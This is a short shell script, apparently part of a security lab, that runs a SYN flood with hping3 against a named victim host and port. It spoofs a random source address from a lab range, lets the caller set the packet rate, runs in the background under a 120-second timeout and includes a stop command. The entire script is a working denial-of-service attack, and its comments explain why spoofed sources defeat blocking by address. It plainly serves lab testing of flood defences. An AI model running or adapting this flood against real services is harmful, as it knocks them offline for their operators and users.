#!/bin/sh
# The lab's own attack, run on the attacker: a SYN flood at the victim's legitimate
# service from a spoofed source, in the background until `flood.sh stop`. The destination
# is always the victim on the lab network. The source is an unused lab address, picked
# anew each run (198.18.0.100-199): its SYN-ACKs go nowhere, so every SYN leaves a
# half-open connection behind on the victim, and blocking one address does not help.
#   flood.sh start VICTIM PORT RATE      (RATE: packets per second)
#   flood.sh stop
set -eu
pidfile=/run/flood.pid
stop() {
  # hping3 runs in a session of its own (setsid): end the whole group.
  if [ -f "$pidfile" ]; then
    kill -- "-$(cat "$pidfile")" 2>/dev/null || true
    rm -f "$pidfile"
  fi
}
case $1 in
  start)
    victim=$2 port=$3 rate=$4
    stop
    spoof=198.18.0.$((100 + $(od -An -N1 -tu1 /dev/urandom) % 100))
    # timeout: a run that fails half-way cannot leave a flood running for long.
    setsid timeout 120 hping3 -q -S -p "$port" -a "$spoof" -i "u$((1000000 / rate))" "$victim" </dev/null >/dev/null 2>&1 &
    echo $! > "$pidfile"
    echo "flooding $victim:$port from $spoof at $rate packets/s"
    ;;
  stop) stop ;;
  *) echo "usage: flood.sh start VICTIM PORT RATE | flood.sh stop" >&2; exit 2 ;;
esac
